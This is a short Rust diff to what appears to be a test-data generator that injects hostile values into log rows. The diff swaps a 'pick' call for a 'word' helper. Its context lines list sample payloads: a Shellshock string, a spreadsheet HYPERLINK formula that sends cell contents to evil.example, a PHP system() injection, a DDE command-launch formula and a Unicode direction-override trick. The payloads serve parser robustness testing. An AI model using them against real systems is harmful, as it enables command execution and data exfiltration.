@@ -3,7 +3,7 @@
 
 use fastrand::Rng;
 
-use super::chance::{made, pick, push_host_id};
+use super::chance::{made, pick, push_host_id, word};
 use super::row::{BAD_BYTE, Row, col};
 
 /// Makes a row hostile. Rows without a quoted request-URI are left as they are; returns whether it was done.
@@ -59,7 +59,7 @@ fn agent(rng: &mut Rng, row: &mut Row) {
         "() { :; }; echo \"$(id)\"; x",
         "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"open\")",
     ];
-    row.set(col::AGENT, *pick(rng, &AGENTS));
+    row.set(col::AGENT, word(rng, &AGENTS));
     row.odd.embedded_quote = true;
 }
 
@@ -89,7 +89,7 @@ fn referer(rng: &mut Rng, row: &mut Row) {
         "<?php system(\"id\"); ?>\\\";$",
         "a\" 404 NoSuchKey 10 - 3 -",
     ];
-    row.set(col::REFERER, *pick(rng, &REFERERS));
+    row.set(col::REFERER, word(rng, &REFERERS));
     row.odd.embedded_quote = true;
 }
 
@@ -102,7 +102,7 @@ fn control_characters(rng: &mut Rng) -> &'static str {
         "right\u{202e}tfel to",
         "=cmd|' /C calc'!A1",
     ];
-    *pick(rng, &AGENTS)
+    word(rng, &AGENTS)
 }
 
 fn invalid(rng: &mut Rng, row: &mut Row) {
